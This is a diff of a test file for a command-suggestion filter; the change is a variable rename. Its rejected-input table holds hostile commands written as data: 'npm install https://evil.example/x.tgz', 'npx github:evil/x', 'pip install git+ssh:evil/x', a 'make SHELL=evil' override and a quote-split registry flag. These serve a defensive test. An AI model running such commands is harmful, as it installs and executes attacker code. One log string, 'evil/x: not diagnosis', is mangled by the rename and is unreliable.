@@ -2,7 +2,7 @@ import { expect, test } from 'vitest';
 import { suggestedCommands } from './suggested-commands.ts';
 
 const grounds = {
-  found: 'left-pad is missing. npx tsc --noEmit',
+  diagnosis: 'left-pad is missing. npx tsc --noEmit',
 };
 
 test.each([
@@ -83,9 +83,9 @@ test.each([
 });
 
 test('what the rules name may be done with it', () => {
-  const found = 'Run `make deploy` again, or npm run build:web.';
+  const diagnosis = 'Run `make deploy` again, or npm run build:web.';
 
-  expect(suggestedCommands(['make deploy', 'npm run build:web'], { found })).toEqual([
+  expect(suggestedCommands(['make deploy', 'npm run build:web'], { diagnosis })).toEqual([
     'make deploy',
     'npm run build:web',
   ]);
@@ -95,20 +95,20 @@ test.each([
   ['an option', 'gradle -I build', 'gradle -I failed, then build'],
   ['a variable of make', 'make SHELL=evil', 'make: SHELL=evil'],
   ['an address', 'npm install https://evil.example/x.tgz', 'See https://evil.example/x.tgz'],
-  ['a repository', 'npm install evil/x', 'evil/x: not found'],
+  ['a repository', 'npm install evil/x', 'evil/x: not diagnosis'],
   ['a version control’s address', 'pip install git+ssh:evil/x', 'git+ssh:evil/x failed'],
   ['a repository to run', 'npx github:evil/x', 'github:evil/x failed'],
   ['words in quotes', "git log '--output=x y'", '--output=x y'],
   ['a part of a word in quotes', "npm ci --regis'try'=evil", 'evil'],
-])('%s that a log had the rules say may not', (_, command, found) => {
-  expect(suggestedCommands([command], { found })).toEqual([]);
+])('%s that a log had the rules say may not', (_, command, diagnosis) => {
+  expect(suggestedCommands([command], { diagnosis })).toEqual([]);
 });
 
 test('an argument in quotes is read as one word', () => {
-  const found = 'The test “adds” failed: @scope/prices 2.0';
+  const diagnosis = 'The test “adds” failed: @scope/prices 2.0';
 
-  expect(suggestedCommands(["git log 'src/sum.ts'", "git log 'a b'"], { found })).toEqual(["git log 'src/sum.ts'"]);
-  expect(suggestedCommands(['npm install @scope/prices'], { found })).toEqual(['npm install @scope/prices']);
+  expect(suggestedCommands(["git log 'src/sum.ts'", "git log 'a b'"], { diagnosis })).toEqual(["git log 'src/sum.ts'"]);
+  expect(suggestedCommands(['npm install @scope/prices'], { diagnosis })).toEqual(['npm install @scope/prices']);
 });
 
 test('at most three of them', () => {
